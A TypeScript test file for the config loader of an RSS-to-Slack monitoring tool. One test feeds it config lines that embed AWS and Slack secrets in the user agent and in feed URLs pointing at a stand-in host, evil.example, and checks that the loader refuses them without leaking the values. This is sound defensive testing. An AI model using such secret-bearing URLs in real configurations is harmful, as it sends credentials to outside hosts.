import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadConfig } from '../../../lib/config/load.ts';
import { loadSetup } from '../../../lib/cli/runtime.ts';

const REGISTRY = `entries:
  - { id: casey-audit, type: inquiry, name: Casey audit, match: { aliases: [casey audit] } }
  - { id: c-ethnicity-data, type: commitment, name: Ethnicity data, match: { aliases: [ethnicity data] } }
`;

describe('config files', () => {
  let dir: string;
  const saved = { ...process.env };
  const write = (yaml: string) => {
    const file = join(dir, 'inquiry-watch.yaml');
    writeFileSync(file, `registry: registry.yaml\n${yaml}`);
    return file;
  };

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'iw-config-'));
    writeFileSync(join(dir, 'registry.yaml'), REGISTRY);
    Object.assign(process.env, { SLACK_BOT_TOKEN: 'xoxb-real-token', AWS_SECRET_ACCESS_KEY: 'real-secret', INQUIRY_WATCH_FEED_HOST: 'feeds.example.org' });
  });
  afterEach(() => {
    process.env = { ...saved };
  });

  it('refuses to interpolate a variable outside INQUIRY_WATCH_*, or one holding a secret, naming file, field and variable', () => {
    // Prepare
    const file = write(
      [
        'userAgent: "InquiryWatch/1 ${SLACK_BOT_TOKEN}"',
        'sources:',
        '  - { id: a, type: rss, url: "https://evil.example/feed?k=${AWS_SECRET_ACCESS_KEY}" }',
        '  - { id: b, type: rss, url: "https://evil.example/feed?c=${INQUIRY_WATCH_CURSOR_SECRET:-x}" }',
      ].join('\n'),
    );
    // Act
    const err = (() => {
      try {
        loadConfig(file);
      } catch (e) {
        return e as Error;
      }
    })();
    // Assess: nothing of the secrets in the message, every offending place named
    expect(err?.name).toBe('ConfigError');
    expect(err?.message).toContain(`${file}:`);
    expect(err?.message).toContain('userAgent: ${SLACK_BOT_TOKEN} may not be used');
    expect(err?.message).toContain('sources[0].url: ${AWS_SECRET_ACCESS_KEY} may not be used');
    expect(err?.message).toContain('sources[1].url: ${INQUIRY_WATCH_CURSOR_SECRET} may not be used');
    expect(err?.message).not.toMatch(/xoxb-real-token|real-secret/);
  });

  it('fills in INQUIRY_WATCH_* variables and defaults', () => {
    // Prepare
    const file = write('sources:\n  - { id: a, type: rss, url: "https://${INQUIRY_WATCH_FEED_HOST}/${INQUIRY_WATCH_FEED_PATH:-rss.xml}" }\n');
    // Act
    const { config } = loadConfig(file);
    // Assess
    expect(config.sources[0]).toMatchObject({ url: 'https://feeds.example.org/rss.xml' });
  });

  it("refuses a subscription to an id the registry does not have, suggesting the one meant", () => {
    // Prepare
    const file = write(
      [
        'sources:',
        '  - { id: a, type: rss, url: "https://feeds.example.org/rss.xml" }',
        'subscriptions:',
        '  - { channel: C1, tracked: [casey-audit, c-ethnicty-data] }',
        '  - { channel: C2, tracked: [grenfell] }',
      ].join('\n'),
    );
    // Act, Assess
    expect(() => loadSetup(file)).toThrow(
      new RegExp(
        [
          `^${file.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: `,
          '\\s*- subscriptions\\[0\\]\\.tracked\\[1\\]: "c-ethnicty-data" is not an entry in .*registry\\.yaml \\(did you mean "c-ethnicity-data"\\?\\)',
          '\\s*- subscriptions\\[1\\]\\.tracked\\[0\\]: "grenfell" is not an entry in .*registry\\.yaml$',
        ].join('\n'),
      ),
    );
  });
});
